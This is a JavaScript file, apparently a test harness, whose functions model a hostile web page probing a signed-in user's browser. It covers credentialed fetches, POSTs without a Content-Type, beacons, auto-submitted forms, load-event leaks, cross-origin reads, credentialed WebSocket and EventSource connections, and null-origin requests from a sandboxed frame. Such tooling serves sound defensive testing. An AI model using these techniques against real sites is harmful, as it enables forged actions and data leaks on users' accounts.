// Attacks of a hostile page on the browser of a signed-in user. Each function returns what the page
// has learned.

// Sends a request with cookies.
async function request(url, options) {
  try {
    const response = await fetch(url, { credentials: "include", ...options });
    return `${response.type} ${response.status} ${await response.text()}`;
  } catch (error) {
    return error.name;
  }
}

// Sends a body; without a Content-Type among the headers, the request has none.
function post(url, text, options) {
  return request(url, { method: "POST", body: new Blob([text]), ...options });
}

function beacon(url, text, type) {
  return navigator.sendBeacon(url, new Blob([text], { type }));
}

// Submits a form: into a frame of this page, into a new window, or in place of this page.
function submitForm(url, fields, options = {}) {
  const { enctype = "application/x-www-form-urlencoded", target, policy } = options;
  if (policy) append("meta", { name: "referrer", content: policy }, document.head);
  document.querySelector("[name=frame]")?.remove();
  if (target === "frame") append("iframe", { name: "frame" });
  const form = append("form", { method: "POST", action: url, enctype, target: target ?? "_self" });
  for (const [name, value] of Object.entries(fields)) append("input", { name, value }, form);
  form.submit();
}

// Embeds the URL as a subresource; the event that fires may reveal what was loaded.
async function embed(url, tag) {
  const attribute = { link: "href", object: "data" }[tag] ?? "src";
  const element = append(tag, tag === "link" ? { rel: "stylesheet" } : {});
  const event = new Promise((resolve) => {
    for (const name of ["load", "error", "loadedmetadata"]) {
      element.addEventListener(name, () => resolve(name));
    }
  });
  element[attribute] = url;
  return event;
}

// Opens the URL in a frame or in a window, and reads the document.
async function openAndRead(url, kind) {
  const view = kind === "iframe" ? append("iframe", {}).contentWindow : open("about:blank");
  const blank = view.document;
  view.location = url;
  for (let i = 0; i < 500; i++) {
    try {
      // Still this page's own blank document: the URL has not loaded yet.
      if (view.document !== blank) return view.document.body.innerText;
      await new Promise((resolve) => setTimeout(resolve, 10));
    } catch (error) {
      return error.name;
    }
  }
  return "not loaded";
}

// Opens a WebSocket or an event stream.
function connect(url, kind) {
  const source =
    kind === "WebSocket"
      ? new WebSocket(url.replace("http", "ws"))
      : new EventSource(url, { withCredentials: true });
  return new Promise((resolve) => {
    source.onopen = () => resolve("open");
    source.onmessage = ({ data }) => resolve(data);
    source.onerror = () => resolve("error");
  });
}

// Sends a request from a sandboxed frame, whose `Origin` is `null`.
function requestFromSandbox(url, options) {
  const script = `(${request})(${JSON.stringify(url)}, ${JSON.stringify(options)})
    .then((result) => parent.postMessage(result, "*"))`;
  return new Promise((resolve) => {
    addEventListener("message", ({ data }) => resolve(data), { once: true });
    append("iframe", { sandbox: "allow-scripts", srcdoc: `<script>${script}</${"script"}>` });
  });
}

function append(tag, attributes, parent = document.body) {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  return parent.appendChild(element);
}
